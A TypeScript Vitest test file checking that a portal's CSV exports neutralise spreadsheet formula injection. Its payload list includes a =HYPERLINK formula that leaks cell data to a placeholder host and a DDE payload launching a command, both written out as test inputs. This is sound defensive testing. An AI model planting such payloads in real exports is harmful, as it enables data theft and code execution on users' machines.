import { describe, expect, it } from "vitest";

import { assessmentCsv, historyCsv } from "~/assessment/assessment-csv.server";
import type { Assessment, HistoryEntry } from "~/assessment/assessments.server";
import { allItems, type Score } from "~/assessment/instrument";
import { changeSince, scoreAssessment } from "~/assessment/scoring";
import { buildResults, type Tally } from "~/feedback/results";
import { aggregatesCsv, approvedTextCsv } from "~/feedback/results-csv";
import { annex61Template } from "~/feedback/templates/annex-6-1";
import { getFixedT } from "~/i18n/i18n";
import { neutraliseFormula, toCsv } from "~/platform/csv";

/**
 * Every CSV the portal writes, fed text that a spreadsheet would run as a formula (OWASP ASVS
 * 5.0, 1.2.10; issue 12 §1). Each cell of each file is read back and checked.
 */
const PAYLOADS = [
  '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
  "+1+2",
  "-2+3",
  "@SUM(A1:A2)",
  "\t=1+1",
  "\r=1+1",
  "\0=1+1",
  "＝1+1",
];
const DANGEROUS_START = /^[=+\-@\t\r\0＝＋－＠]/;

/** Reads CSV text (RFC 4180: quoted cells, doubled quotes, new lines inside quotes). */
function readCsv(text: string, delimiter = ","): string[][] {
  expect(text.startsWith("\uFEFF")).toBe(true);
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  const body = text.slice(1);
  for (let i = 0; i < body.length; i += 1) {
    const char = body[i]!;
    if (quoted) {
      if (char === '"' && body[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === delimiter) {
      row.push(cell);
      cell = "";
    } else if (char === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
    } else cell += char;
  }
  expect(cell).toBe("");
  expect(row).toEqual([]);
  return rows;
}

/** Each cell is empty, a plain number, or text that cannot start a formula. */
function expectEveryCellSafe(rows: string[][]) {
  for (const cell of rows.flat()) {
    if (cell === "" || /^-?\d+(\.\d+)?$/.test(cell)) continue;
    expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(DANGEROUS_START);
  }
}

/** A translation function whose every answer is one of the payloads, in turn. */
function hostileT() {
  let next = 0;
  return () => PAYLOADS[next++ % PAYLOADS.length]!;
}

const tally = (question_id: string, choice: string, count: number): Tally => ({
  question_id,
  choice,
  language: "sq",
  respondent_mode: "self",
  count,
});

describe("the CSV helper", () => {
  it("puts a single quote before a text cell that a spreadsheet would read as a formula", () => {
    for (const payload of PAYLOADS) expect(neutraliseFormula(payload)).toBe(`'${payload}`);
    for (const safe of ["Tiranë", "3/4", "50%", "2026-11-29", "a=b", " =1", "'quoted"])
      expect(neutraliseFormula(safe)).toBe(safe);
  });

  it("leaves no formula when a decimal-comma spreadsheet splits the file at semicolons", () => {
    const row = [";=1+1 semicolon first", "ok;=cmd|' /C calc'!A0", "a\t=1", "Tiranë", 61.5];
    const text = toCsv([row]);
    expect(readCsv(text, ",")).toEqual([row.map(String)]);
    // Split at semicolons, the quoted cells keep theirs inside: no cell starts a formula.
    const split = readCsv(text, ";");
    expectEveryCellSafe(split);
  });

  it("keeps numbers plain (also negative ones), quotes per RFC 4180, and writes empty cells", () => {
    const text = toCsv([[3, -2, 12.5, null, 'He said "no", twice', "-2", Number.NaN]]);
    expect(text).toBe('\uFEFF3,-2,12.5,,"He said ""no"", twice",\'-2,\n');
  });
});

describe("every export neutralises formulas", () => {
  it("the counts CSV: hostile labels are text; counts and percents stay numbers", () => {
    const results = buildResults(
      annex61Template,
      ["referral"],
      [
        tally("__responses", "__answered", 10),
        tally("referral_consent_signed", "__answered", 10),
        tally("referral_consent_signed", "yes", 7),
        tally("referral_consent_signed", "no", 3),
      ],
      5,
    );
    if (!results.ready) throw new Error("expected results");
    const rows = readCsv(aggregatesCsv(results, annex61Template, hostileT()));
    expectEveryCellSafe(rows);
    expect(rows.flat().filter((cell) => cell.startsWith("'")).length).toBeGreaterThan(10);
    // Numbers in the number columns, the reason a count is hidden in its own column: all 10
    // answered and nobody skipped, so "skipped" is below k and "answered" hidden to protect it.
    const real = getFixedT("en");
    const plain = readCsv(aggregatesCsv(results, annex61Template, real));
    expect(plain[0]).toEqual(["Question", "Answer", "Count", "Percent", "Status"]);
    const consent = real(
      "questionnaires:service_user_feedback.questions.referral_consent_signed.text",
    );
    expect(plain).toContainEqual([consent, "Answered", "", "", "hidden"]);
    expect(plain).toContainEqual([consent, "Skipped", "", "", "fewer than 5"]);
    expect(plain).toContainEqual([consent, "Yes", "7", "70", ""]);
    expect(plain).toContainEqual([consent, "No", "", "", "fewer than 5"]);
  });

  it("the approved-texts CSV: a survivor's =HYPERLINK closing answer comes out as text", () => {
    const closing = PAYLOADS[0]!;
    const rows = readCsv(
      approvedTextCsv(
        PAYLOADS.map((redacted) => ({ questionId: "closing_anything_else", redacted })),
        annex61Template,
        getFixedT("en"),
      ),
    );
    expectEveryCellSafe(rows);
    expect(rows[1]![1]).toBe(`'${closing}`);
    expect(rows.slice(1).map((row) => row[1])).toEqual(PAYLOADS.map((p) => `'${p}`));
  });

  it("the self-assessment CSV: evidence notes and labels are text; scores stay numbers", () => {
    const items = allItems();
    const sheet: Assessment["sheet"] = { scores: {}, notes: {} };
    items.forEach(({ itemId }, index) => {
      sheet.scores[itemId] = (index % 3) as Score;
      sheet.notes[itemId] = PAYLOADS[index % PAYLOADS.length]!;
    });
    const assessment: Assessment = {
      id: "a",
      programmeId: "p",
      assessedOn: "2026-11-29",
      participants: "=cmd|' /C calc'!A0",
      status: "completed",
      version: 1,
      completedAt: null,
      revisionOf: null,
      sheet,
    };
    const rows = readCsv(assessmentCsv(assessment, hostileT()));
    expectEveryCellSafe(rows);
    expect(rows[1]![2]).toBe("0");
    expect(rows[1]![3]).toBe(`'${PAYLOADS[0]}`);
    expect(rows[2]![2]).toBe("1");
  });

  it("the programme-history CSV: labels are text; scores and falls stay plain numbers", () => {
    const all2 = scoreAssessment(Object.fromEntries(allItems().map((i) => [i.itemId, 2])));
    const all0 = scoreAssessment(Object.fromEntries(allItems().map((i) => [i.itemId, 0])));
    const history: HistoryEntry[] = [
      {
        id: "1",
        assessedOn: "2026-01-10",
        status: "completed",
        startedBy: "=cmd|' /C calc'!A0",
        participants: "+Team",
        result: all2,
        change: null,
      },
      {
        id: "2",
        assessedOn: "2026-06-10",
        status: "completed",
        startedBy: null,
        participants: "@team",
        result: all0,
        change: changeSince(all2, all0),
      },
    ];
    const rows = readCsv(historyCsv(history, hostileT()));
    expectEveryCellSafe(rows);
    expect(rows[0]!.every((cell) => cell.startsWith("'"))).toBe(true);
    expect(rows[2]![0]).toBe("2026-06-10");
    expect(rows[2]!.at(-2)).toBe("0");
    expect(rows[2]!.at(-1)).toBe(String(-all2.total));
  });
});
